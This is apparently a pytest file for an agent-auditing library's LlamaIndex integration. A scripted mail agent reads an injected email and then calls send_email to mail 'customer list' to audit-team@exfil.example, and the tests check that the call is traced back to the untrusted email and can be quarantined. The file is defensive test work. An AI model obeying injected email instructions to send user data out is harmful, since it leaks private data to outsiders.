"""The injection scenario through a LlamaIndex FunctionAgent workflow, with a scripted LLM."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from llama_index.core.agent.workflow import ToolCallResult
from opentelemetry.sdk.trace import TracerProvider

import agentaudit
from agentaudit.instrumentation import _version_check
from agentaudit.instrumentation import llama_index as llama_index_integration
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans, instrument_unsupported, quarantined
from tests.frameworks.llama_index._scripted import (
    Script,
    email_text,
    mail_agent,
    prompt_hash,
    tools,
)


async def _run(agent: Any, text: str) -> tuple[str, list[Any]]:
    handler = agent.run(text)
    outputs: list[Any] = []
    async for event in handler.stream_events():
        if isinstance(event, ToolCallResult):
            outputs.append(event.tool_output)
    result = await handler
    return str(result), outputs


def test_send_email_span_carries_the_injected_email_as_its_source(spans: Spans) -> None:
    script = Script()

    async def main() -> tuple[str, list[Any]]:
        with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
            return await _run(mail_agent(script), "Summarise my new email.")

    final, outputs = asyncio.run(main())
    assert final == "Done."
    assert [o.content for o in outputs] == [email_text(), "sent to audit-team@exfil.example"]

    attrs = spans.attributes("send_email")
    assert attrs[A.FRAMEWORK] == "llama_index"
    assert attrs[A.GEN_AI_TOOL_CALL_ID] == "call_2"
    assert json.loads(str(attrs[A.GEN_AI_TOOL_CALL_ARGUMENTS])) == {
        "to": "audit-team@exfil.example",
        "body": "customer list",
    }
    assert attrs[A.ENDUSER_ID] == "bob"
    assert attrs[A.SESSION_ID] == "sess-1"
    assert attrs[A.GEN_AI_AGENT_ID] == "mail-assistant"
    assert attrs[A.APPROVAL_STATUS] == A.APPROVAL_NONE
    refs = list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]
    trust = dict(zip(refs, attrs[A.SOURCE_TRUST], strict=True))  # type: ignore[call-overload]
    assert trust["tool:read_inbox#call_1"] == A.TRUST_UNTRUSTED
    assert attrs[A.PROMPT_HASH] == prompt_hash(script.seen[1])
    chats = [dict(s.attributes or {}) for s in spans.of(A.OPERATION_CHAT)]
    assert [c[A.PROMPT_HASH] for c in chats] == [prompt_hash(seen) for seen in script.seen]


def test_without_a_context_the_agent_name_and_session_prompt_are_used(spans: Spans) -> None:
    script = Script()
    final, _ = asyncio.run(_run(mail_agent(script), "Summarise my new email."))
    assert final == "Done."
    attrs = spans.attributes("send_email")
    assert attrs[A.GEN_AI_AGENT_ID] == attrs[A.GEN_AI_AGENT_NAME] == "mail-bot"
    assert attrs[A.PROMPT_HASH] == prompt_hash(script.seen[1])
    assert "tool:read_inbox#call_1" in list(attrs[A.SOURCE_REFS])  # type: ignore[call-overload]


def test_tool_exception_is_recorded_and_the_agent_sees_the_same_output(
    spans: Spans, provider: TracerProvider
) -> None:
    agentaudit.uninstrument()
    _, plain = asyncio.run(_run(mail_agent(Script(to="nobody@nowhere.example")), "Mail?"))
    agentaudit.instrument(tracer_provider=provider, integrations=["llama_index"])
    _, audited = asyncio.run(_run(mail_agent(Script(to="nobody@nowhere.example")), "Mail?"))
    assert [(o.content, o.is_error) for o in audited] == [(o.content, o.is_error) for o in plain]
    assert audited[1].is_error
    attrs = spans.attributes("send_email")
    assert attrs[A.ERROR_TYPE] == "ValueError"
    assert spans.tools("send_email")[0].status.status_code.name == "ERROR"


def test_a_function_tool_called_directly_is_one_tool_call(spans: Spans) -> None:
    read, send = tools()
    with agentaudit.context(agent="script", user="bob", session="sess-2"):
        assert send(to="a@example.com", body="hi").content == "sent to a@example.com"
        assert send.call(to="b@example.com", body="hi").raw_output == "sent to b@example.com"
        with pytest.raises(ValueError, match="no such recipient"):
            send.call(to="nobody@nowhere.example", body="hi")
    sends = spans.tools("send_email")
    assert len(sends) == 3  # __call__ -> call counts once
    assert [
        json.loads(str((s.attributes or {})[A.GEN_AI_TOOL_CALL_ARGUMENTS]))["to"] for s in sends
    ] == [
        "a@example.com",
        "b@example.com",
        "nobody@nowhere.example",
    ]
    assert (sends[2].attributes or {})[A.ERROR_TYPE] == "ValueError"
    _ = read


def test_two_sessions_interleaved_keep_separate_provenance(spans: Spans) -> None:
    async def session(name: str, folder: str) -> None:
        with agentaudit.context(agent="mail-assistant", user=f"user-{name}", session=name):
            await _run(mail_agent(Script(folder=folder)), "Summarise my new email.")

    async def both() -> None:
        await asyncio.gather(session("s-a", "inbox-a"), session("s-b", "inbox-b"))

    asyncio.run(both())
    sends = [dict(s.attributes or {}) for s in spans.tools("send_email")]
    assert sorted(str(a[A.SESSION_ID]) for a in sends) == ["s-a", "s-b"]
    for attrs in sends:
        assert attrs[A.ENDUSER_ID] == f"user-{attrs[A.SESSION_ID]}"
        assert list(attrs[A.SOURCE_REFS]) == ["tool:read_inbox#call_1"]  # type: ignore[call-overload]
    hashes = {a[A.SESSION_ID]: a[A.SOURCE_HASHES] for a in sends}
    assert hashes["s-a"] != hashes["s-b"]


def test_uninstrument_removes_the_handlers(spans: Spans) -> None:
    from llama_index.core.instrumentation import get_dispatcher

    def ours() -> list[Any]:
        dispatcher = get_dispatcher()
        return [
            h
            for h in [*dispatcher.span_handlers, *dispatcher.event_handlers]
            if type(h).__module__.startswith("agentaudit")
        ]

    from llama_index.core.tools import FunctionTool

    assert len(ours()) == 2

    def wrapped_by_us(method: str) -> bool:
        return str(FunctionTool.__dict__[method].__module__).startswith("agentaudit")

    assert wrapped_by_us("acall")
    assert wrapped_by_us("call")
    agentaudit.uninstrument()
    assert ours() == []
    assert not wrapped_by_us("acall")
    assert not wrapped_by_us("call")
    final, _ = asyncio.run(_run(mail_agent(Script()), "Summarise my new email."))
    assert final == "Done."
    assert spans.all() == []


def test_version_gate_is_a_pure_function_of_the_version() -> None:
    from agentaudit.instrumentation.llama_index.package import _supported

    assert _version_check.check_supported(_supported, "0.14.25")
    assert _version_check.check_supported(_supported, "0.14.20")
    assert not _version_check.check_supported(_supported, "0.14.19")
    assert not _version_check.check_supported(_supported, "0.15.0")


def test_unsupported_installed_version_warns_once_and_adds_nothing(
    provider: TracerProvider, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from llama_index.core.instrumentation import get_dispatcher

    before = len(get_dispatcher().span_handlers)
    instrument_unsupported(
        monkeypatch,
        caplog,
        provider=provider,
        integration="llama_index",
        distribution="llama-index-core",
        version="0.10.68",
    )
    assert len(get_dispatcher().span_handlers) == before
    assert not llama_index_integration.instrumented()


def test_a_quarantined_agent_s_tool_call_is_refused_before_it_runs(spans: Spans) -> None:
    with quarantined("send_email"):
        _, outputs = asyncio.run(_run(mail_agent(Script()), "Summarise my new email."))
    assert outputs[1].is_error  # the model is told; nothing was sent
    assert "quarantined" in outputs[1].content
    assert "sent to" not in outputs[1].content
    attrs = spans.attributes("send_email")
    assert attrs[A.DECISION] == A.DECISION_BLOCKED
    assert A.RESULT_HASH not in attrs


def test_an_application_tool_class_is_recorded_through_the_dispatcher(spans: Spans) -> None:
    from llama_index.core.tools.types import AsyncBaseTool, ToolMetadata, ToolOutput

    class Lookup(AsyncBaseTool):
        @property
        def metadata(self) -> ToolMetadata:
            return ToolMetadata(name="lookup", description="Look a customer up.")

        def call(self, input: Any) -> ToolOutput:
            if input == "boom":
                raise KeyError(input)
            return ToolOutput(
                content=f"found {input}", tool_name="lookup", raw_input={}, raw_output=input
            )

        async def acall(self, input: Any) -> ToolOutput:
            return self.call(input)

    with agentaudit.context(agent="script", user="bob", session="sess-3"):
        assert Lookup().call("acme").content == "found acme"
        assert asyncio.run(Lookup().acall("initech")).content == "found initech"
        with pytest.raises(KeyError):
            Lookup().call("boom")
    found = [dict(s.attributes or {}) for s in spans.tools("lookup")]
    assert [json.loads(str(a[A.GEN_AI_TOOL_CALL_ARGUMENTS])) for a in found] == [
        {"input": "acme"},
        {"input": "initech"},  # acall -> call of the same tool counts once
        {"input": "boom"},
    ]
    assert found[2][A.ERROR_TYPE] == "KeyError"
    assert found[0][A.SESSION_ID] == "sess-3"
